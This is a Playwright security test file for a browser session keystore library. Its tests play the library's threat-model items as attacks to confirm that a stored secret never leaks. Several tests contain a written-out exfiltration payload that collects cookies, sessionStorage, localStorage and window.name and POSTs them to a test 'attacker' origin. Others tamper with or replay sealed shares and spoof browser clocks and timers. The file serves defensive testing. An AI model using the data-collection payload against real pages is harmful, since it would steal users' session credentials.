// SessionKeystore in real Chromium: reload survival, expiry, and THREATS.md items 8-15 written as
// attacks. Each attack runs as page script *after* our module loaded (or in another page of the
// same origin between two page lives), tries to read or exfiltrate the secret to a second origin
// (the "attacker server"), and the test asserts the secret never reaches it, storage, or page code.
import { randomBytes } from 'node:crypto';
import { expect, type Page, test } from '@playwright/test';
import { serveSecret, startCollector, startServer, type TestServer } from '../support/server.js';

const NS = 'sealed-session/keystore:auth';
let app: TestServer;
let evil: TestServer;
let secret = '';
const loot: string[] = [];

test.beforeAll(async () => {
  app = await startServer(serveSecret(() => secret));
  evil = await startCollector(loot);
});
test.afterAll(async () => {
  await app.close();
  await evil.close();
});
test.beforeEach(() => {
  secret = `sk_${randomBytes(16).toString('hex')}`;
  loot.length = 0;
});

const appUrl = (params = '') => `${app.origin}/pages/keystore/app.html?${params}`;
const blankUrl = () => `${app.origin}/pages/keystore/blank.html`;

async function open(page: Page, url: string): Promise<void> {
  await page.goto(url);
  await page.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
}
const events = (page: Page) => page.evaluate(() => document.body.dataset.events ?? '');
const has = (page: Page) => page.evaluate(() => document.body.dataset.has);

/** Attacker payload: collects everything a page script can see and posts it to the attacker's origin. */
async function stealEverything(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async (collect) => {
    const seen = {
      name: window.name,
      session: JSON.stringify({ ...sessionStorage }),
      local: JSON.stringify({ ...localStorage }),
      cookie: document.cookie,
      html: document.documentElement.outerHTML,
      globals: Object.keys(window).join(','),
    };
    await fetch(collect, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
    return seen;
  }, `${evil.origin}/collect`);
}

function expectNoSecret(seen: unknown): void {
  expect(loot.length).toBeGreaterThan(0); // the exfiltration channel itself works
  for (const l of loot) expect(l).not.toContain(secret);
  expect(JSON.stringify(seen)).not.toContain(secret);
}

test.describe('reload survival (item 8)', () => {
  test('strings survive reloads in current Chromium; CryptoKeys stay in memory only', async ({ page }) => {
    await open(page, appUrl('expose=1'));
    await page.evaluate(
      async ([s]) => {
        const app = (window as unknown as { app: Record<string, (...a: unknown[]) => unknown> }).app;
        app.set!('token', s);
        app.set!('later', 'v', Date.now() + 60_000);
        await app.setKey!('aes');
      },
      [secret],
    );
    expect(
      await page.evaluate(() =>
        (window as unknown as { app: { isKey(k: string): boolean } }).app.isKey('aes'),
      ),
    ).toBe(true);
    for (let life = 0; life < 2; life++) {
      await page.reload();
      await page.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
      const got = await page.evaluate(() => {
        const app = (window as unknown as { app: { get(k: string): unknown } }).app;
        return [app.get('token'), app.get('later'), app.get('aes')];
      });
      expect(got).toEqual([secret, 'v', null]);
      expect(await events(page)).not.toContain('restore-failed');
    }
  });

  test('expiries survive reloads exactly, and a restored key expires on time without being read', async ({
    page,
  }) => {
    type App = { set(k: string, v: string, e?: number): void; expiresAt(k: string): unknown };
    await open(page, appUrl('expose=1'));
    const exp = await page.evaluate(() => {
      const app = (window as unknown as { app: App }).app;
      const e = {
        exact: Date.now() + 3_600_000,
        fraction: Date.now() + 3_600_000.25,
        soon: Date.now() + 2500,
      };
      for (const [k, t] of Object.entries(e)) app.set(k, 'v', t);
      app.set('forever', 'v');
      return e;
    });
    for (let life = 0; life < 2; life++) {
      await page.reload();
      await page.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
      const got = await page.evaluate(() => {
        const app = (window as unknown as { app: App }).app;
        return ['exact', 'fraction', 'soon', 'forever'].map((k) => app.expiresAt(k));
      });
      expect(got).toEqual([exp.exact, exp.fraction, exp.soon, undefined]);
    }
    // Nobody reads 'soon': the one timer armed by the restore must expire it.
    await expect.poll(() => events(page), { timeout: 5000 }).toContain('expired:soon');
    expect(await events(page)).not.toContain('expired:exact');
  });

  test('premise: Chromium drops window.name writes made in pagehide, keeps sessionStorage ones', async ({
    page,
    browserName,
  }) => {
    // Firefox keeps both (docs/runtimes.md): there the premise is the other way round, checked as such.
    // Why session-keystore (which writes both shares at unload) loses its keys on reload here.
    await open(page, blankUrl());
    await page.evaluate(() => {
      window.name = 'before';
      addEventListener('pagehide', () => {
        window.name = 'written-at-pagehide';
        sessionStorage.setItem('probe', 'written-at-pagehide');
      });
    });
    await page.reload();
    await page.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
    expect(await page.evaluate(() => [window.name, sessionStorage.getItem('probe')])).toEqual([
      browserName === 'firefox' ? 'written-at-pagehide' : 'before',
      'written-at-pagehide',
    ]);
  });

  test('nothing is written before pagehide; window.name holds a value-independent key only', async ({
    page,
  }) => {
    await open(page, appUrl('expose=1'));
    const before = await page.evaluate(() => window.name);
    await page.evaluate(
      ([s]) => (window as unknown as { app: { set(k: string, v: string): void } }).app.set('token', s!),
      [secret],
    );
    const after = await page.evaluate(() => ({ name: window.name, sealed: sessionStorage.length }));
    expect(after.sealed).toBe(0);
    expect(after.name).toBe(before); // the key share does not depend on the values
    const entry = JSON.parse(after.name)[NS];
    expect(entry).toMatch(/^k1\.[A-Za-z0-9_-]{43}$/);
  });

  test('a tab that does not reload (closed, new tab) gets nothing', async ({ context, page }) => {
    await open(page, appUrl('secret=fetch'));
    await page.close({ runBeforeUnload: true });
    const other = await context.newPage();
    await open(other, appUrl());
    expect(await has(other)).toBe('false');
  });

  test('existing window.name content of the application is kept intact', async ({ page }) => {
    await open(page, blankUrl());
    await page.evaluate(() => {
      window.name = JSON.stringify({ appPref: 'dark' });
    });
    await open(page, appUrl('expose=1'));
    expect(JSON.parse(await page.evaluate(() => window.name)).appPref).toBe('dark');
    await page.evaluate(
      ([s]) => (window as unknown as { app: { set(k: string, v: string): void } }).app.set('token', s!),
      [secret],
    );
    await page.reload();
    await page.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
    expect(
      await page.evaluate(() => (window as unknown as { app: { get(k: string): unknown } }).app.get('token')),
    ).toBe(secret);
    expect(JSON.parse(await page.evaluate(() => window.name)).appPref).toBe('dark');
  });
});

test.describe('THREATS §Browser keystore', () => {
  test('item 9: neither share alone holds the secret; any edited bit is refused with restore-failed', async ({
    page,
  }) => {
    // Offsets into the decoded share: persist time, nonce, ciphertext body, tag.
    for (const offset of [8, 12, 40, -1]) {
      await open(page, appUrl('secret=fetch'));
      await open(page, blankUrl()); // a real navigation: trusted pagehide writes the sealed share
      const seen = await stealEverything(page);
      expect(JSON.parse(seen.session!)[NS]).toBeTruthy();
      await page.evaluate(
        ([ns, off]) => {
          const s = sessionStorage.getItem(ns as string)!;
          const bin = atob(s.replace(/-/g, '+').replace(/_/g, '/'));
          const bytes = Uint8Array.from(bin, (c) => c.charCodeAt(0));
          const i = (off as number) < 0 ? bytes.length + (off as number) : (off as number);
          bytes[i]! ^= 0x01;
          const out = btoa(String.fromCharCode(...bytes))
            .replace(/\+/g, '-')
            .replace(/\//g, '_')
            .replace(/=+$/, '');
          sessionStorage.setItem(ns as string, out);
        },
        [NS, offset],
      );
      await open(page, appUrl());
      expect(await has(page)).toBe('false');
      expect(await events(page)).toContain('restore-failed:tampered');
      expect(await page.evaluate((ns) => sessionStorage.getItem(ns), NS)).toBeNull();
      expectNoSecret(seen);
    }
  });

  test('item 9: a sealed share with its key share removed is refused, not silently dropped', async ({
    page,
  }) => {
    await open(page, appUrl('secret=fetch'));
    await open(page, blankUrl());
    await page.evaluate(() => {
      window.name = '';
    });
    await open(page, appUrl());
    expect(await has(page)).toBe('false');
    expect(await events(page)).toContain('restore-failed:missing-share');
  });

  test('item 10: synthetic pagehide/unload/beforeunload do not persist anything', async ({ page }) => {
    await open(page, appUrl('secret=fetch'));
    expect(await has(page)).toBe('true');
    const seen = await page.evaluate(async (collect) => {
      window.dispatchEvent(new PageTransitionEvent('pagehide', { persisted: false }));
      window.dispatchEvent(new Event('pagehide'));
      window.dispatchEvent(new Event('unload'));
      window.dispatchEvent(new Event('beforeunload'));
      document.dispatchEvent(new Event('visibilitychange'));
      const loot = { name: window.name, session: JSON.stringify({ ...sessionStorage }) };
      await fetch(collect, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
      return loot;
    }, `${evil.origin}/collect`);
    expect(JSON.parse(seen.session)).toEqual({});
    expectNoSecret(seen);
  });

  test('item 11: a restore is one-shot: shares consumed, the key share replaced', async ({ page }) => {
    await open(page, appUrl('secret=fetch'));
    await open(page, blankUrl());
    const between = await page.evaluate(
      (ns) => ({ name: window.name, sealed: sessionStorage.getItem(ns) }),
      NS,
    );
    expect(between.sealed).toBeTruthy();
    await open(page, appUrl());
    expect(await has(page)).toBe('true');
    const seen = await stealEverything(page);
    expect(JSON.parse(seen.session!)).toEqual({});
    expect(JSON.parse(seen.name!)[NS]).not.toBe(JSON.parse(between.name)[NS]);
    expectNoSecret(seen);
    // Putting the consumed sealed share back does not bring the values back: its key is gone.
    await page.evaluate(([ns, s]) => sessionStorage.setItem(ns!, s!), [NS, between.sealed]);
    await open(page, blankUrl()); // app page hides: writes a fresh share over the replayed one
    await page.evaluate(([ns, s]) => sessionStorage.setItem(ns!, s!), [NS, between.sealed]);
    await open(page, appUrl());
    expect(await has(page)).toBe('false');
    expect(await events(page)).toContain('restore-failed:tampered');
  });

  test('item 11: a restore older than maxRestoreAge ("reopen closed tab") is refused', async ({ page }) => {
    await open(page, appUrl('secret=fetch'));
    await open(page, blankUrl());
    // A fact, not a delay: the persist time written in the sealed share (bytes 1-8, big-endian ms)
    // is more than maxAge (1000 ms) in the past by the page's own clock.
    const age = () =>
      page.evaluate((ns) => {
        const share = sessionStorage.getItem(ns);
        if (share === null) return -1;
        const raw = Uint8Array.from(atob(share.replace(/-/g, '+').replace(/_/g, '/')), (c) =>
          c.charCodeAt(0),
        );
        let t = 0;
        for (let i = 1; i < 9; i++) t = t * 256 + raw[i]!;
        return Date.now() - t;
      }, NS);
    await expect.poll(age, { timeout: 5000 }).toBeGreaterThan(1100);
    await open(page, appUrl('maxAge=1000'));
    expect(await has(page)).toBe('false');
    expect(await events(page)).toContain('restore-failed:stale');
    expect(await page.evaluate((ns) => sessionStorage.getItem(ns), NS)).toBeNull();
  });

  test('item 12: expiry beyond 2^31-1 ms holds; a replaced Date.now/setTimeout neither revives nor stops expiry', async ({
    page,
  }) => {
    await open(page, appUrl('expose=1'));
    await page.evaluate(() => {
      const app = (window as unknown as { app: { set(k: string, v: string, e: number): void } }).app;
      app.set('long', 'L', Date.now() + 25 * 24 * 3600 * 1000);
      app.set('short', 'S', Date.now() + 800);
      // The attack: freeze the clock in the past and disable timers, to keep an expired key alive.
      const realNow = Date.now;
      Date.now = () => realNow() - 3_600_000;
      window.setTimeout = (() => 0) as unknown as typeof setTimeout;
    });
    // The fact the attack tries to prevent: the store's own timer expires 'short' on time.
    await expect.poll(() => events(page), { timeout: 5000 }).toContain('expired:short');
    const state = await page.evaluate(() => {
      const app = (window as unknown as { app: { has(k: string): boolean } }).app;
      return [app.has('long'), app.has('short')];
    });
    expect(state).toEqual([true, false]);
    expect(await events(page)).toContain('expired:short');
    expect(await events(page)).not.toContain('expired:long');
    await page.reload();
    await page.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
    expect(
      await page.evaluate(() => (window as unknown as { app: { has(k: string): boolean } }).app.has('long')),
    ).toBe(true);
  });

  test('item 13: a second store with the same name (even from another copy of the module) takes over; the first can no longer write', async ({
    page,
  }) => {
    await open(page, appUrl('secret=fetch&expose=1'));
    expect(await has(page)).toBe('true');
    const seen = await page.evaluate(async () => {
      const app = (window as unknown as { app: { get(k: string): unknown; set(k: string, v: string): void } })
        .app;
      const out: string[] = [];
      const code = (fn: () => unknown) => {
        try {
          fn();
          return 'ok';
        } catch (e) {
          return (e as { code: string }).code;
        }
      };
      for (const url of ['/mod/keystore.js', '/mod/keystore.js?copy=1']) {
        const m = await import(url);
        const s = new m.SessionKeystore({ name: 'auth' }); // neither throws nor shares the app's memory
        out.push(`${url}:${s.get('token') === null}`);
        s.set('by', url);
        (window as unknown as { last: unknown }).last = s;
      }
      out.push(
        code(() => app.get('token')),
        code(() => app.set('token', 'late write')),
      );
      return out;
    });
    expect(seen).toEqual([
      '/mod/keystore.js:true',
      '/mod/keystore.js?copy=1:true',
      'ERR_KEYSTORE_REPLACED',
      'ERR_KEYSTORE_REPLACED',
    ]);
    // At the trusted pagehide only the store that took over last seals: the replaced ones (the
    // app's, the first copy's) write nothing over its share.
    await open(page, appUrl('expose=1'));
    const got = await page.evaluate(() => {
      const app = (window as unknown as { app: { get(k: string): unknown } }).app;
      return [app.get('by'), app.get('token')];
    });
    expect(got).toEqual(['/mod/keystore.js?copy=1', null]);
    expect(await events(page)).not.toContain('restore-failed');
  });

  test('item 14: a framed store writes nothing into window.name the embedder can read back', async ({
    page,
  }) => {
    const inner = appUrl('secret=fetch');
    await page.goto(`${evil.origin}/pages/keystore/parent.html?src=${encodeURIComponent(inner)}`);
    const frame = page.frameLocator('#f');
    await frame.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
    expect(await frame.locator('body').getAttribute('data-has')).toBe('true'); // works, memory-only
    // The embedder navigates the frame to its own origin; window.name survives that navigation.
    const name = await page.evaluate(async (blank) => {
      const f = document.getElementById('f') as HTMLIFrameElement;
      await new Promise((r) => {
        f.onload = r;
        f.src = blank;
      });
      const n = f.contentWindow!.name;
      await fetch('/collect', { method: 'POST', body: JSON.stringify({ name: n }) });
      return n;
    }, `${evil.origin}/pages/keystore/blank.html`);
    expect(name).toBe('');
    expectNoSecret(name);
  });

  test('item 15: share lengths do not reveal the secret length', async ({ page }) => {
    const lengths: number[][] = [];
    for (const value of ['x', 'y'.repeat(150)]) {
      await open(page, appUrl('expose=1'));
      await page.evaluate(
        ([v]) => (window as unknown as { app: { set(k: string, v: string): void } }).app.set('token', v!),
        [value],
      );
      await open(page, blankUrl());
      lengths.push(
        await page.evaluate(
          (ns) => [sessionStorage.getItem(ns)!.length, JSON.parse(window.name)[ns].length],
          NS,
        ),
      );
      await page.evaluate(() => sessionStorage.clear());
    }
    expect(lengths[0]).toEqual(lengths[1]);
  });

  test('item 15: large states too: lengths move only from one bucket to the next', async ({ page }) => {
    // The sealed list costs 17 bytes besides the value: 4 200 and 4 500 both pad to 4 608 bytes,
    // 4 700 to 5 120 (from 4 KiB on, eight buckets per doubling).
    const share: Record<number, number> = {};
    for (const n of [4200, 4500, 4700]) {
      await open(page, appUrl('expose=1'));
      await page.evaluate(
        ([v]) => (window as unknown as { app: { set(k: string, v: string): void } }).app.set('token', v!),
        ['z'.repeat(n)],
      );
      await open(page, blankUrl());
      share[n] = await page.evaluate((ns) => sessionStorage.getItem(ns)!.length, NS);
      await page.evaluate(() => sessionStorage.clear());
    }
    const bytes = (chars: number) => Math.floor((chars * 3) / 4); // unpadded base64url
    expect(share[4200]).toBe(share[4500]);
    expect(bytes(share[4200]!)).toBe(1 + 8 + 12 + 4608 + 16);
    expect(bytes(share[4700]!)).toBe(1 + 8 + 12 + 5120 + 16);
  });
});
